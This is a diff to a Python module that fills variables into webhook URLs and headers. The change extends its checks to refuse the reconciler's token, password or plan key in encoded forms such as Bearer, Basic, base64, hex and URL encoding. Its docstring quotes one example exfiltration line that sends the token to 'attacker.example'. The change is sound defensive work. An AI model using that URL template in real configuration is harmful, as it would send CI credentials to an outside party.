@@ -5,9 +5,14 @@ with the variable's part shown as `(sensitive value)`, and the variable's own va
 with the redaction (a service that echoes the bare value must not print it). The reconciler's
 own credentials and the CI's variables are never filled in: a pull request that writes
 `url: https://attacker.example/?t=${RECONCILER_TOKEN}` is an error at its line, before any
-request. What the service would refuse (an empty header value, which is what CI passes for a
-missing secret, a line break, a value or URL over its limit) is said here, after filling,
-rather than by an apply that has already changed workers.
+request. Nor is a variable of another name whose value holds a credential (the token, the
+password from the environment or `--password-file`, the plan key) anywhere inside it, as it is
+or in a form the reconciler sends or a value usually travels in: `Bearer <token>`, the base64
+of `email:password` (`Basic ...`), base64, hex or URL encoding of a credential; nor a value
+that holds one only once several variables are put together. What the service would refuse
+(an empty header value, which is what CI passes for a missing secret, a line break, a value or
+URL over its limit) is said here, after filling, rather than by an apply that has already
+changed workers.
 """
 
 from __future__ import annotations
@@ -21,12 +26,14 @@ from reconciler.desired.interpolate import InterpolationError, interpolate, refe
 from reconciler.desired.model import WebhookHeader
 from reconciler.desired.problems import PathProblem, YamlPath
 from reconciler.desired.rules import FileValues, webhook_url_problem
+from reconciler.redaction import encodings
 from reconciler.secrets import Secret, webhook_url
 
 #: Variables that are never interpolated: the reconciler's own settings and the CI's.
 DENIED_PREFIXES = ("RECONCILER_", "GITHUB_", "ACTIONS_", "RUNNER_")
 #: Variables that hold a credential of the reconciler itself, whatever the file names.
 CREDENTIAL_VARIABLES = ("RECONCILER_TOKEN", "RECONCILER_PASSWORD", "RECONCILER_PLAN_KEY")
+EMAIL_VARIABLE = "RECONCILER_EMAIL"
 #: The service's limits (service-contract.md, and the sandbox's "where the contract leaves room").
 MAX_URL = 2048
 MAX_HEADER_VALUE = 1024
@@ -77,9 +84,10 @@ class _Filler:
         self.name = name
         self.environ = environ
         self.names_only = isinstance(environ, EveryName)
-        self.forbidden = {value for value in credentials if value}
+        found = [value for value in credentials if value]
         if not self.names_only:
-            self.forbidden.update(environ[n] for n in CREDENTIAL_VARIABLES if environ.get(n))
+            found += [environ[n] for n in CREDENTIAL_VARIABLES if environ.get(n)]
+        self.forbidden = _forbidden_forms(found, environ.get(EMAIL_VARIABLE, "").strip())
         self.problems: list[tuple[str, PathProblem]] = []
 
     def fail(self, path: YamlPath, message: str) -> None:
@@ -115,6 +123,13 @@ class _Filler:
             self.fail(path, str(error))
             return None
         if not self.names_only:
+            if self.holds_credential(filled) and not self.holds_credential(text):
+                self.fail(
+                    path,
+                    "holds one of the reconciler's own credentials (its token, password or plan "
+                    "key) once its variables are filled in, which is never put into the webhook",
+                )
+                return None
             for variable in references(text):
                 redaction.register_secret(self.environ[variable])  # the bare value, too
         return filled
@@ -126,12 +141,19 @@ class _Filler:
                 f"variables ({', '.join(p + '*' for p in DENIED_PREFIXES)}) are never put "
                 "into the webhook"
             )
-        if not self.names_only and self.environ.get(variable) in self.forbidden:
+        if not self.names_only and self.holds_credential(self.environ.get(variable)):
             return (
                 f"${{{variable}}} holds one of the reconciler's own credentials (its token, "
                 "password or plan key), which are never put into the webhook"
             )
         return None
+
+    def holds_credential(self, value: str | None) -> bool:
+        """Whether `value` is, or holds inside it, a credential in any of its forms."""
+        if not value:
+            return False
+        exact, inside = self.forbidden
+        return value in exact or any(form in value for form in inside)
 
     def url(self, raw: object) -> str | Secret | None:
         if not isinstance(raw, str):
@@ -164,6 +186,20 @@ class _Filler:
             return None
         redaction.register_secret(filled)  # from here on, no log line can carry it
         return Secret(filled, template=template)
+
+
+def _forbidden_forms(credentials: Iterable[str], email: str) -> tuple[set[str], tuple[str, ...]]:
+    """Each credential as it is, and the forms it is sent or travels in: (values refused when
+    a variable equals them, forms refused anywhere inside a variable's value)."""
+    exact: set[str] = set()
+    inside: set[str] = set()
+    for value in credentials:
+        for each in {value, value.strip()}:
+            exact.add(each)
+            inside |= encodings(each)  # Bearer <token> holds the token; Basic, its base64
+            if email:
+                inside |= encodings(f"{email}:{each}")  # HTTP Basic of the login
+    return exact, tuple(sorted(inside, key=len, reverse=True))
 
 
 def _header_value_problem(value: str, *, from_variable: bool) -> str | None:
